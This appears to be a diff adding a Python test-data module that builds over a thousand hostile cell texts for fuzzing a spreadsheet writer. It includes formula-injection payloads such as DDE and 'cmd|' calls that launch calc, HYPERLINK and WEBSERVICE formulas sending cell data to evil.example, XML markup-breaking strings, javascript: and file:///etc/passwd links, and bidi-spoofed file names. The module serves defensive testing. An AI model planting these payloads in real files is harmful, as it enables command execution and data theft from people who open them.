@@ -1,0 +1,132 @@
+"""A thousand texts that would like to be a formula, a link, markup, or a cell's end."""
+
+from __future__ import annotations
+
+from itertools import product
+
+_BEFORE = (
+    "",
+    " ",
+    "\t",
+    "\r",
+    "\n",
+    "\r\n",
+    "\u00a0",
+    "\ufeff",
+    "\u200b",
+    "\u202e",
+    "\u2066",
+    "'",
+    '"',
+    ";",
+    ",",
+    "\x00",
+    "\x1f",
+    "\x7f",
+)
+_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "{=", "%=")
+_BEHIND = (
+    "1+1",
+    "cmd|' /C calc'!A0",
+    'HYPERLINK("http://evil.example/?"&A1,"figures")',
+    'DDE("cmd";"/C calc";"x")',
+    'WEBSERVICE("http://evil.example")',
+    "SUM(1+1)*cmd|' /C calc'!A0",
+)
+_OTHERS = (
+    *(
+        "http://evil.example",
+        "https://evil.example/a b",
+        "ftp://evil.example",
+        "mailto:a@evil.example",
+        "file:///etc/passwd",
+    ),
+    *(
+        "internal:A1",
+        "internal:'Inputs'!A1",
+        "external:c:\\temp\\a.xlsx#Sheet1!A1",
+        "\\\\server\\share\\a.xlsx",
+        "javascript:alert(1)",
+    ),
+    *(
+        "</t></si><si><t>",
+        "]]>",
+        "<![CDATA[=1+1]]>",
+        "<?xml version='1.0'?>",
+        "<!DOCTYPE a>",
+        "&#0;",
+        "&lt;f&gt;1&lt;/f&gt;",
+        "&amp;",
+    ),
+    *(
+        "<r><t>rich</t></r>",
+        "<r></r></si><si><t>=1+1</t></si><si><r></r>",
+        "<r>",
+        "<f>1+1</f>",
+        '"/><f>1+1</f><c r="A1',
+        "<script>alert(1)</script>",
+    ),
+    *("_x0041_", "_x003D_1+1", "_x005F_x0041_", "_x000D_=1+1", "_xZZZZ_"),
+    *(
+        "A1",
+        "R1C1",
+        "XFD1048576",
+        "$A$1",
+        "Inputs!A1",
+        "'Inputs'!A1",
+        "TRUE",
+        "#REF!",
+        "#NAME?",
+        "1e5",
+        "-5",
+        "+5",
+        "0x10",
+        "1/2",
+        "=",
+        "@",
+        "-",
+    ),
+    *(
+        "\u202egnp.exe",
+        "\u2066=1+1\u2069",
+        "\u200f=1+1",
+        "a\u0000b",
+        "a\u0008b",
+        "a\x1bb",
+        "a\x85b",
+        "a\ufffeb",
+        "a\uffffb",
+        "\ufeff",
+    ),
+    *(
+        "",
+        " ",
+        "\t",
+        "\n",
+        "a\nb",
+        "a\rb",
+        "a\tb",
+        "'",
+        "''",
+        "'=1+1",
+        '"=1+1"',
+        '","=1+1',
+        "\n=1+1",
+        "a\n=1+1",
+        "a\r\n=1+1",
+    ),
+    *(
+        "x" * 32_766,
+        "x" * 32_767,
+        "x" * 32_768,
+        "x" * 40_000,
+        "\U0001f4b0" * 16_383,
+        "\U0001f4b0" * 20_000,
+        "=" + "1+" * 20_000 + "1",
+    ),
+    *("\u0301\u0302", "é" * 40, "中文=1+1", "＝中文", "\U0001f4b0=1", "ﷺ", "\u2028=1+1", "\u2029=1+1", "\u180e=1+1"),
+)
+
+#: The texts, each once.
+HOSTILE = tuple(dict.fromkeys([*("".join(one) for one in product(_BEFORE, _SIGNS, _BEHIND)), *_OTHERS]))
+assert len(HOSTILE) >= 1000
